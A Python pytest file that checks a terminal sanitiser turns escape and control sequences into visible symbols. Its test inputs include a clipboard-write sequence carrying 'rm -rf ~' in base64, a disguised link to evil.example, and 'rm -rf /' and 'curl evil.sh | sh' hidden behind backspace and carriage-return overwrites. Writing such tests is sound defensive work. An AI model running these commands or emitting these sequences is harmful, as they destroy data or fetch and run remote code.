import pytest

from gemloom.terminal import visible

ATTACKS = {
    "osc52 clipboard write": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "osc8 hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "csi screen clear": "\x1b[2J\x1b[H",
    "csi cursor up and erase line": "\x1b[1A\x1b[2K",
    "bare escape": "\x1b",
    "c1 csi": "\x9b2J",
    "c1 osc": "\x9d52;c;aGk=\x9c",
    "bell": "\x07",
    "backspace overwrite": "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls     ",
    "carriage return overwrite": "curl evil.sh | sh\rls                ",
    "delete": "\x7f",
    "nul": "\x00",
    "vertical tab and form feed": "\x0b\x0c",
    "dcs": "\x1bP1$r0m\x1b\\",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_no_control_character_survives(attack: str) -> None:
    shown = visible(f"before {attack} after")
    assert not any(ord(c) < 0x20 and c not in "\n\t" for c in shown)
    assert not any(0x7F <= ord(c) < 0xA0 for c in shown)
    assert shown.startswith("before ") and shown.endswith(" after")


def test_sequences_are_made_visible_not_hidden() -> None:
    assert visible("a\x1b]52;c;aGk=\x07b") == "a␛]52;c;aGk=␇b"
    assert visible("\x1b[2J") == "␛[2J"
    assert visible("x\x08y") == "x␈y"
    assert visible("\x9b2J") == "\\x9b2J"
    assert visible("lone\rreturn") == "lone␍return"


def test_ordinary_text_is_unchanged() -> None:
    text = "Résumé:\n\t- naïve café ✓ 東京 🙂\n  `code` [y]es \\x1b\n"
    assert visible(text) == text
    assert visible("windows\r\nline ends\r\n") == "windows\nline ends\n"
    assert visible("") == ""
